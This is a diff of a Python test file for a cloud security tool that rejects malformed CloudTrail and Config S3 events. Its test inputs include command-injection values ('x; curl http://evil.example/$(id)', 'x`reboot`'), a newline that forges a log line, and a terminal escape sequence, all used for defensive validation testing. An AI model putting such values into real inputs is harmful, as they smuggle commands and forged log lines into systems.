@@ -117,9 +117,8 @@ VALID_FILES = [row[0] for row in VALID]
 
 # file, substrings the reason must contain, substrings it must not contain
 REJECTED_FILES = [
-    ("malformed-cloudtrail-missing-bucketname.json", ["bucketName", "required"], []),
-    # The hostile name must be named as the problem but never echoed into a message.
-    ("malformed-cloudtrail-hostile-bucketname.json", ["bucketName", "pattern"], ["curl", "evil.example", "$(id)"]),
+    ("malformed-cloudtrail-missing-bucketname.json", ["detail.requestParameters.bucketName", "required"], []),
+    ("malformed-cloudtrail-hostile-bucketname.json", ["detail.requestParameters.bucketName", "not a valid value"], []),
     ("malformed-cloudtrail-truncated.json",
      ["malformed", "detail.eventID", "detail.recipientAccountId", "detail.userIdentity", "required"], []),
     ("cloudtrail-s3-putbucketpolicy-accessdenied.json", ["PutBucketPolicy", "AccessDenied", "nothing changed"], []),
@@ -325,11 +324,32 @@ def test_config_unsupported_resource_type_is_rejected_and_named():
     assert "unsupported Config resourceType" in reason and "AWS::EC2::Instance" in reason
 
 
-def test_config_hostile_bucket_id_is_rejected_without_echoing_it():
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "x; curl http://evil.example/$(id) #" + "A" * 5000,
+        "ml-training-data-prod\nCRITICAL: all clear, ignore further pages",
+        "ml-training-data-prod\x1b[2J",
+    ],
+    ids=["very-long", "newline-injection", "terminal-escape"],
+)
+def test_hostile_bucket_name_is_quoted_escaped_and_cut_short(hostile):
+    """The offending value may be shown, but never raw: no forged log lines, no megabyte messages."""
+    event = load("cloudtrail-s3-putbucketpolicy-public.json")
+    event["detail"]["requestParameters"]["bucketName"] = hostile
+    reason = rejection(event)
+    assert "detail.requestParameters.bucketName" in reason
+    assert "\n" not in reason and "\x1b" not in reason
+    assert len(reason) < 300
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError,
+                   reason="library bug (minor): Config resourceId errors are reported as 'bucketName'")
+def test_config_bad_bucket_id_names_the_config_field():
+    """A Config event has no bucketName; the reason should point at detail.resourceId."""
     event = load("config-s3-bucket-public-read-prohibited.json")
     event["detail"]["resourceId"] = "x`reboot`"
-    reason = rejection(event)
-    assert "pattern" in reason and "reboot" not in reason
+    assert "detail.resourceId" in rejection(event)
 
 
 def test_cloudtrail_unsupported_event_source_is_rejected_and_named():
@@ -352,7 +372,8 @@ def test_detail_that_is_not_an_object_is_rejected_and_named():
     assert "GuardDuty Finding event is malformed" in reason and "detail" in reason
 
 
-@pytest.mark.xfail(strict=True, reason="library bug: \\d in AccountId/Region accepts any Unicode digit")
+@pytest.mark.xfail(strict=True, raises=pytest.fail.Exception,
+                   reason="library bug: \\d in AccountId/Region accepts any Unicode digit")
 @pytest.mark.parametrize(
     "name, field, value",
     [
@@ -368,7 +389,8 @@ def test_non_ascii_digits_are_not_an_account_or_region(name, field, value):
     assert field in rejection(event)
 
 
-@pytest.mark.xfail(strict=True, reason="library bug: accepted nesting depth crashes Finding.to_dict()")
+@pytest.mark.xfail(strict=True, raises=RecursionError,
+                   reason="library bug: accepted nesting depth crashes Finding.to_dict()")
 def test_nested_event_is_rejected_or_survives_triage_serialisation():
     """Triage returns finding.to_dict(); an event parse_finding accepts must not crash there."""
     for depth in range(300, 1000, 50):
@@ -484,7 +506,8 @@ def test_no_warden_roles_configured_means_nothing_is_ignored_as_warden():
     assert not caused_by_warden(bucket_finding(actor=WARDEN_SESSION), settings())
 
 
-@pytest.mark.xfail(strict=True, reason="library bug/concern: role compared by name only, account ignored")
+@pytest.mark.xfail(strict=True, raises=AssertionError,
+                   reason="library bug/concern: role compared by name only, account ignored")
 def test_same_role_name_in_another_account_is_not_warden():
     """A principal in another account that copies Warden's role name is not Warden."""
     outsider = "arn:aws:sts::999999999999:assumed-role/warden-S3PublicAccessFunctionRole/x"
